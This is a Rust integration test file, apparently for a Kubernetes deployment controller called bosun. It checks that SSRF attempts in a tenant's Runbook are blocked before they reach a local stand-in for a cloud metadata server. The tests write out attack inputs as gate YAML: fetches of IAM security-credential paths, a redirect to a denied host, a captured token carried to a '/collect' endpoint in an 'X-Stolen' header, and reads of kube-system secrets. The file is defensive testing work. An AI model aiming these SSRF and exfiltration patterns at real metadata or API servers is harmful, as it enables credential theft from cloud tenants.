//! SSRF from a tenant's Runbook, played on the local control plane with the real
//! `bosun` binary: an endpoint on 127.0.0.2 stands in for a cloud metadata server
//! (the controller runs with `--egress-deny 127.0.0.2/32`, while the harness allows the
//! rest of loopback for the gate endpoints) and serves a canary credential.
//!
//! Each attack (an `http` gate, a smoke step, a redirect from an allowed endpoint, a
//! metrics query, a smoke capture carried to the denied host, a gate at the API
//! server, a notification webhook) must be refused before a byte reaches the target:
//! the app is Blocked with RunbookInvalid (the good revision is neither rolled back nor
//! quarantined), the stand-in never sees a request, and no canary appears in the
//! status, the Events or the controller's log.

mod support;

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use axum::Router;
use axum::extract::State;
use axum::http::{StatusCode, header};
use axum::response::IntoResponse;
use axum::routing::{any, get};
use bosun::api::Phase;
use bosun_devenv::example::{ExampleRevision, runbook_yaml};
use bosun_devenv::{HealthEndpoint, WorkRepo};
use k8s_openapi::api::events::v1::Event;
use kube::Api;
use kube::api::ListParams;
use serde_json::json;
use support::{Harness, ready_condition, status};

const NS: &str = "shop";
const APP: &str = "litevault";
const WAIT: Duration = Duration::from_secs(120);
/// The credential the metadata stand-in serves.
const CANARY: &str = "AKIA-EGRESS-CANARY-7f3a";
/// What the allowed endpoint lets a smoke step capture.
const CAPTURED: &str = "captured-session-canary-91c2";
const DENY: &str = "127.0.0.2/32";

/// The metadata server stand-in on 127.0.0.2: answers anything with the canary and
/// counts the requests it got.
struct Metadata {
    base: String,
    hits: Arc<AtomicUsize>,
}

impl Metadata {
    async fn start() -> Metadata {
        let hits = Arc::new(AtomicUsize::new(0));
        let router = Router::new().fallback(any(serve_canary)).with_state(hits.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.2:0")
            .await
            .expect("127.0.0.2 is loopback on Linux");
        let base = format!("http://{}", listener.local_addr().unwrap());
        tokio::spawn(async move { axum::serve(listener, router).await });
        Metadata { base, hits }
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

async fn serve_canary(State(hits): State<Arc<AtomicUsize>>) -> impl IntoResponse {
    hits.fetch_add(1, Ordering::SeqCst);
    axum::Json(json!({
        "status": "success",
        "AccessKeyId": CANARY,
        "data": {"resultType": "scalar", "result": [0, CANARY]},
    }))
}

/// An allowed endpoint (127.0.0.1): a redirect to the stand-in, and a login whose
/// answer a smoke step captures.
async fn allowed_endpoint(metadata: &str) -> String {
    let target = format!("{metadata}/latest/meta-data/iam/security-credentials/");
    let router = Router::new()
        .route(
            "/to-metadata",
            get(move || {
                let target = target.clone();
                async move { (StatusCode::FOUND, [(header::LOCATION, target)], "") }
            }),
        )
        .route("/login", any(|| async { axum::Json(json!({"token": CAPTURED})) }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, router).await });
    base
}

/// An app Healthy on its first revision under the example Runbook, with the controller
/// denying 127.0.0.2.
struct Deployed {
    harness: Harness,
    repo: WorkRepo,
    health: HealthEndpoint,
    first: String,
}

async fn deployed() -> Deployed {
    let mut harness = Harness::start().await;
    let repo = harness.repo("app");
    let first = ExampleRevision::good("1.0").commit_to(&repo, "v1.0").unwrap();
    harness.namespace(NS).await;
    let health = HealthEndpoint::start(harness.client.clone(), NS, "backend")
        .await
        .unwrap();
    harness
        .apply_runbook(&runbook_yaml(NS, APP, &health.url(), "2s"))
        .await;
    harness
        .apply_example_app(NS, APP, repo.name(), Some(APP), "2s")
        .await;
    harness.limit_controller_address_space(support::ATTACK_ADDRESS_SPACE);
    harness.start_controller_with(&["--egress-deny", DENY], &[]);
    harness.wait_for_phase(NS, APP, Phase::Healthy, &first).await;
    Deployed {
        harness,
        repo,
        health,
        first,
    }
}

/// Everything an attacker could read: the status, the Events of the namespace, the
/// controller's log.
async fn everything_visible(harness: &Harness) -> String {
    assert!(
        harness.controller_rss_kib().is_some(),
        "the controller is not running: it died under its address-space limit"
    );
    let app = harness.app(NS, APP).await;
    let events = Api::<Event>::namespaced(harness.client.clone(), NS)
        .list(&ListParams::default())
        .await
        .unwrap();
    let notes: Vec<String> = events
        .items
        .iter()
        .map(|e| format!("{:?} {:?}", e.reason, e.note))
        .collect();
    format!(
        "{}\n{}\n{}",
        serde_json::to_string(&app.status).unwrap(),
        notes.join("\n"),
        harness.controller_log_text()
    )
}

/// The tenant adds `gate_yaml` to its Runbook and pushes a good revision: the app is
/// Blocked with RunbookInvalid naming the gate, the host and `rule`; nothing is rolled
/// back or quarantined; the stand-in saw nothing; no canary is visible anywhere.
async fn refused(
    deployed: &Deployed,
    metadata: &Metadata,
    gate: &str,
    gate_yaml: &str,
    host: &str,
    rule: &str,
) {
    let harness = &deployed.harness;
    let runbook = format!(
        "{}{gate_yaml}",
        runbook_yaml(NS, APP, &deployed.health.url(), "2s")
    );
    harness.apply_runbook(&runbook).await;
    let second = ExampleRevision::good("1.1")
        .commit_to(&deployed.repo, "v1.1")
        .unwrap();
    let app = harness
        .wait_for_blocked_reason(NS, APP, "RunbookInvalid", WAIT)
        .await;
    let ready = ready_condition(&app);
    assert!(ready.message.starts_with(&format!("gate {gate}: ")), "{ready:?}");
    assert!(ready.message.contains(&format!("host {host}")), "{ready:?}");
    assert!(ready.message.contains(rule), "{ready:?}");

    // Several rounds later: still blocked, the revision applied stays, nothing was
    // held against it.
    tokio::time::sleep(Duration::from_secs(6)).await;
    let app = harness.app(NS, APP).await;
    let s = status(&app);
    assert_eq!(s.phase, Phase::Blocked, "{s:?}");
    assert_eq!(s.current_revision.as_deref(), Some(second.as_str()));
    assert_eq!(s.last_healthy_revision.as_deref(), Some(deployed.first.as_str()));
    assert!(s.quarantined.is_empty(), "{:?}", s.quarantined);
    assert!(
        !s.history
            .iter()
            .any(|h| matches!(h.phase, Phase::Failed | Phase::RolledBack | Phase::RollingBack)),
        "{:?}",
        s.history
    );
    assert_eq!(metadata.hits(), 0, "the denied host got a request");
    let visible = everything_visible(harness).await;
    assert!(!visible.contains(CANARY), "the canary leaked:\n{visible}");
    assert!(!visible.contains(CAPTURED), "a captured value leaked:\n{visible}");
}

/// [`refused`] for a gate at the stand-in, which `--egress-deny` refuses.
async fn refused_by_deny(deployed: &Deployed, metadata: &Metadata, gate: &str, gate_yaml: &str) {
    let rule = format!("--egress-deny {DENY}");
    refused(deployed, metadata, gate, gate_yaml, "127.0.0.2", &rule).await;
}

#[tokio::test]
async fn an_http_gate_to_a_denied_metadata_address_is_refused() {
    let deployed = deployed().await;
    let metadata = Metadata::start().await;
    let gate = format!(
        "    - name: metadata\n      periodSeconds: 1\n      http:\n        url: {}/latest/meta-data/iam/security-credentials/\n",
        metadata.base
    );
    refused_by_deny(&deployed, &metadata, "metadata", &gate).await;
}

#[tokio::test]
async fn a_smoke_step_to_a_denied_address_is_refused() {
    let deployed = deployed().await;
    let metadata = Metadata::start().await;
    let gate = format!(
        "    - name: flow\n      periodSeconds: 1\n      smoke:\n        steps:\n          - name: creds\n            url: {}/latest/meta-data/\n",
        metadata.base
    );
    refused_by_deny(&deployed, &metadata, "flow", &gate).await;
}

#[tokio::test]
async fn a_redirect_from_an_allowed_endpoint_to_a_denied_one_is_refused() {
    let deployed = deployed().await;
    let metadata = Metadata::start().await;
    let allowed = allowed_endpoint(&metadata.base).await;
    let gate = format!(
        "    - name: bounce\n      periodSeconds: 1\n      http:\n        url: {allowed}/to-metadata\n        followRedirects: true\n"
    );
    refused_by_deny(&deployed, &metadata, "bounce", &gate).await;
}

#[tokio::test]
async fn a_metrics_query_to_a_denied_address_is_refused() {
    let deployed = deployed().await;
    let metadata = Metadata::start().await;
    let gate = format!(
        "    - name: errors\n      periodSeconds: 1\n      metrics:\n        prometheus: {}\n        query: up\n        threshold: {{op: \"==\", value: 1}}\n",
        metadata.base
    );
    refused_by_deny(&deployed, &metadata, "errors", &gate).await;
}

#[tokio::test]
async fn a_smoke_capture_is_not_carried_to_a_denied_host() {
    let deployed = deployed().await;
    let metadata = Metadata::start().await;
    let allowed = allowed_endpoint(&metadata.base).await;
    let gate = format!(
        "    - name: exfiltrate\n      periodSeconds: 1\n      smoke:\n        steps:\n          - name: login\n            url: {allowed}/login\n            capture:\n              token: json:token\n          - name: send\n            url: {}/collect?t={{{{.steps.login.token}}}}\n            headers:\n              X-Stolen: \"{{{{.steps.login.token}}}}\"\n",
        metadata.base
    );
    refused_by_deny(&deployed, &metadata, "exfiltrate", &gate).await;
    let ready = ready_condition(&deployed.harness.app(NS, APP).await);
    assert!(
        ready.message.contains("step send (2 of 2)"),
        "the step that would have carried it: {ready:?}"
    );
}

#[tokio::test]
async fn a_gate_at_the_api_server_is_refused_though_loopback_is_allowed() {
    let deployed = deployed().await;
    let metadata = Metadata::start().await;
    let server = deployed.harness.control_plane.server_url().to_string();
    let api = reqwest::Url::parse(&server).unwrap();
    let host = api.host_str().unwrap().to_string();
    let gate = format!(
        "    - name: secrets\n      periodSeconds: 1\n      http:\n        url: {}/api/v1/namespaces/kube-system/secrets\n",
        server.trim_end_matches('/')
    );
    refused(
        &deployed,
        &metadata,
        "secrets",
        &gate,
        &host,
        "(the Kubernetes API server), which no --egress-allow lifts",
    )
    .await;
}

#[tokio::test]
async fn a_notification_to_a_denied_address_is_refused_and_told() {
    let deployed = deployed().await;
    let harness = &deployed.harness;
    let metadata = Metadata::start().await;
    // The path of a chat webhook is its credential: it must not be shown either.
    let hook = format!("{}/hooks/{CANARY}", metadata.base);
    let runbook = format!(
        "{}  notify:\n    - name: exfil\n      url: {hook}\n",
        runbook_yaml(NS, APP, &deployed.health.url(), "2s")
    );
    harness.apply_runbook(&runbook).await;
    let second = ExampleRevision::good("1.1")
        .commit_to(&deployed.repo, "v1.1")
        .unwrap();
    // A notification is no gate: the revision goes out.
    harness.wait_for_phase(NS, APP, Phase::Healthy, &second).await;
    let told = support::eventually("a NotificationRefused Event", WAIT, || async {
        let events = Api::<Event>::namespaced(harness.client.clone(), NS)
            .list(&ListParams::default())
            .await?;
        Ok(events
            .items
            .into_iter()
            .find(|e| e.reason.as_deref() == Some("NotificationRefused")))
    })
    .await
    .unwrap();
    assert_eq!(told.type_.as_deref(), Some("Warning"));
    let note = told.note.unwrap_or_default();
    assert!(note.contains("notification receiver exfil"), "{note}");
    assert!(note.contains("host 127.0.0.2"), "{note}");
    assert!(note.contains(&format!("--egress-deny {DENY}")), "{note}");
    tokio::time::sleep(Duration::from_secs(3)).await;
    assert_eq!(metadata.hits(), 0, "the denied receiver got a request");
    let visible = everything_visible(harness).await;
    assert!(!visible.contains(CANARY), "the canary leaked:\n{visible}");
}
